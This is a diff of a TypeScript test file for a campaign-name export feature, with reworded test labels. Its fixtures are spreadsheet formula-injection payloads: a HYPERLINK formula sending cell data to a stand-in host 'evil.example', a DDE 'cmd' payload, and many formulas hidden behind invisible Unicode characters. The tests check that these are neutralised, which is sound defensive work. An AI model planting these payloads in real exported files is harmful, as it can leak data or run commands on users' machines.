@@ -10,28 +10,28 @@ import { tempDir } from '../support/temp-dir.ts';
 import { addTable, publish, stateFile } from '../warehouse/published.ts';
 
 const NAMES: readonly (readonly [sentence: string, name: string])[] = [
-  ['a link that carries cells away', '=HYPERLINK("http://evil.example/?"&A1,"more")'],
+  ['a link that sends cells away', '=HYPERLINK("http://evil.example/?"&A1,"more")'],
   ['a command of DDE', "@SUM(1+1)*cmd|' /C calc'!A0"],
   ['behind a blank', ' =1+1'],
-  ['behind a blank that does not break', '\u00a0=1+1'],
-  ['behind a sign of no width', '\u200b=1+1'],
-  ['behind a mark of byte order', '\ufeff=1+1'],
-  ['behind a blank of East Asia', '\u3000=1+1'],
+  ['behind a non-breaking space', '\u00a0=1+1'],
+  ['behind a zero-width space', '\u200b=1+1'],
+  ['behind a byte order mark', '\ufeff=1+1'],
+  ['behind an ideographic space', '\u3000=1+1'],
   ['behind a narrow blank, in full width', '\u202f＝1+1'],
   ['behind a word joiner', '\u2060+1+1'],
-  ['behind signs of direction', '\u200f\u202a-1+cmd'],
+  ['behind direction marks', '\u200f\u202a-1+cmd'],
   ['behind a soft hyphen', '\u00ad@SUM(1)'],
-  ['behind a filler of Hangul', '\u3164=1+1'],
+  ['behind a Hangul filler', '\u3164=1+1'],
   ['behind a variation selector of two units', '\u{e0100}=1+1'],
-  ['behind a blank of Braille', '\u2800=1+1'],
-  ['behind a control', '\u0000\u001f=1+1'],
-  ['behind a line of another kind', 'shoes\u2028=1+1'],
-  ['behind a line of a typewriter', 'shoes\u000b=1+1'],
+  ['behind a Braille blank', '\u2800=1+1'],
+  ['behind a control character', '\u0000\u001f=1+1'],
+  ['behind a line separator', 'shoes\u2028=1+1'],
+  ['behind a vertical tab', 'shoes\u000b=1+1'],
   ['behind blanks of many kinds, after a semicolon', 'shoes; \u2003\u200d"\u205f=1+1'],
   ['behind a quote', '"=1+1'],
   ['on a line of its own', 'shoes\n=1+1'],
-  ['behind a tab, where cells end for some', 'shoes\t=1+1'],
-  ['behind a semicolon, where cells end in half of Europe', 'shoes;=1+1;'],
+  ['behind a tab, a cell separator for some', 'shoes\t=1+1'],
+  ['behind a semicolon, a cell separator in half of Europe', 'shoes;=1+1;'],
   ['behind a semicolon and quotes', 'shoes;"=1+1";'],
   ['in full width', 'shoes;＝1+1;'],
   ['a minus that looks like a number', '-1+cmd'],
@@ -59,8 +59,8 @@ const formulas = (csv: string) =>
     (cell) => /^[=+\-@＝＋－＠]/.test(cell.replace(UNSEEN, '')) && !/^-?\d+(\.\d+)?$/.test(cell),
   );
 
-describe('a campaign whose name is a formula', () => {
-  it.each(NAMES)('is no formula in a listing, wherever the program that opens it parts cells: %s', (_, name) => {
+describe('a campaign with a formula as name', () => {
+  it.each(NAMES)('is not a formula in a listing, for any cell separator: %s', (_, name) => {
     const columns = [
       id('id', 'Before.', () => 5),
       text('name', 'The name.', () => name),
@@ -69,7 +69,7 @@ describe('a campaign whose name is a formula', () => {
     expect(formulas(csvText(sheetOf(columns, [{}], 'rows')))).toEqual([]);
   });
 
-  it('is none in the tables that are exported, and stays as it is in the database and in JSON', async () => {
+  it('is not a formula in exported tables, and stays unchanged in the database and in JSON', async () => {
     const state = await stateFile();
     const query = 'SELECT campaign.name, metrics.clicks FROM campaign';
     const rows = NAMES.map(([, name]) => ({ campaign_name: name, clicks: 1 }));
@@ -83,14 +83,14 @@ describe('a campaign whose name is a formula', () => {
     expect(kept.map((row) => row.campaign_name)).toEqual(NAMES.map(([, name]) => name));
   });
 
-  it('was one: what is looked for is found where nothing is done about it', () => {
+  it('would be a formula without protection: this test finds it', () => {
     const raw = NAMES.map(([, name]) => `"1","${name.replaceAll('"', '""')}"\r\n`);
     expect(raw.filter((csv) => formulas(csv).length === 0)).toEqual([]);
   });
 });
 
-describe('a name that is none', () => {
-  it.each(['Shoes - Berlin', 'a=b', 'A; B', 'x@example.com', '5 > 3', '100%', ''])('is left as it is: %j', (name) => {
+describe('a harmless name', () => {
+  it.each(['Shoes - Berlin', 'a=b', 'A; B', 'x@example.com', '5 > 3', '100%', ''])('stays unchanged: %j', (name) => {
     expect(spreadsheetText(name)).toBe(name);
   });
 });
